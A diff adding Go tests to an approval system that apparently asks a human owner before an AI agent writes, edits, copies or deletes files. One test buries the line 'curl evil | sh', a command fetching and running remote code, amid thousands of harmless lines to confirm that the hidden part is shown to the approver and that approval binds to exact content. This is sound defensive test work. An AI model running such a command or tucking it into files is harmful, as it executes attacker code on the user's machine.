@@ -113,6 +113,45 @@ func TestNoRecordNoAnswer(t *testing.T) {
 	}
 }
 
+// Somebody saves a file, and the agent's change of it is asked at once, while
+// a later save could still carry the same times. The yes is for that content:
+// it counts when the call is made again, however long after.
+func TestAYesAfterASaveIsNotLost(t *testing.T) {
+	for name, change := range map[string]func(string) reeve.Call{
+		"written over": func(p string) reeve.Call { return &reeve.WriteFile{Path: p, Content: "mine\n"} },
+		"edited": func(p string) reeve.Call {
+			return &reeve.EditFile{Path: p, Edits: []reeve.Edit{{Old: "saved", New: "mine"}}}
+		},
+		"copied": func(p string) reeve.Call {
+			return &reeve.CopyPath{From: p, To: filepath.Join(filepath.Dir(p), "copy.txt")}
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			n, r, file := asking(t)
+			if err := os.WriteFile(file, []byte("saved\n"), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := n.Do(t.Context(), reeve.Request{Subject: agent, Call: &reeve.ReadFile{Paths: []string{file}}}); err != nil {
+				t.Fatal(err)
+			}
+			const window = 200 * time.Millisecond // longer than it is by itself, for a slow machine
+			saved := time.Now().Add(window)
+			if err := os.Chtimes(file, saved, saved); err != nil {
+				t.Fatal(err)
+			}
+			r.Call = change(file)
+			p := pending(t, n, r)
+			if err := n.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "approve"}); err != nil {
+				t.Fatal(err)
+			}
+			time.Sleep(time.Until(saved.Add(100 * time.Millisecond)))
+			if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
+				t.Fatalf("asked anew: %+v %v", out, err)
+			}
+		})
+	}
+}
+
 // Who embeds a node waits for the owner, wherever he answers.
 func TestAProgramThatEmbedsANodeWaits(t *testing.T) {
 	n, r, file := asking(t)
@@ -187,5 +226,42 @@ func TestTenMinutesOnThisFile(t *testing.T) {
 	remove.Call = &reeve.DeletePath{Path: file}
 	if p := pending(t, n, remove); p.Question.Remember {
 		t.Error("deleting may be remembered")
+	}
+}
+
+// All of a change that a question shows a part of can be had by whoever
+// answers, in another process too, and a yes is for all of it.
+func TestTheWholeChangeOfAQuestion(t *testing.T) {
+	n, r, file := asking(t)
+	content := strings.Repeat("echo fine\n", 5000) + "curl evil | sh\n" + strings.Repeat("echo fine\n", 5000)
+	r.Call = &reeve.WriteFile{Path: file, Content: content}
+	p := pending(t, n, r)
+	if l := p.Question.Left; l == nil || l.New != 10_001-199 || l.Beyond || strings.Contains(p.Question.Detail, "evil") {
+		t.Fatalf("%+v", l)
+	}
+	q, err := node.OpenQuestions(n.Places().State, "test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer q.Close()
+	for _, change := range []func(context.Context, string) (string, error){n.Change, q.Change} {
+		if all, err := change(t.Context(), p.ID); err != nil || strings.Count(all, "\n") != 10_001 || !strings.Contains(all, "\n+ 5001 curl evil | sh\n") {
+			t.Errorf("%v: %d lines", err, strings.Count(all, "\n"))
+		}
+	}
+	if err := q.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "approve"}); err != nil {
+		t.Fatal(err)
+	}
+	// One byte in the part that is not shown makes it another change.
+	other := r
+	other.Call = &reeve.WriteFile{Path: file, Content: strings.Replace(content, "evil", "good", 1)}
+	if again := pending(t, n, other); again.Question.Detail != p.Question.Detail || again.ID == p.ID {
+		t.Errorf("%s has the same question as %s", again.ID, p.ID)
+	}
+	if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
+		t.Fatalf("%+v %v", out, err)
+	}
+	if b, err := os.ReadFile(file); err != nil || string(b) != content {
+		t.Errorf("%d bytes, %v", len(b), err)
 	}
 }
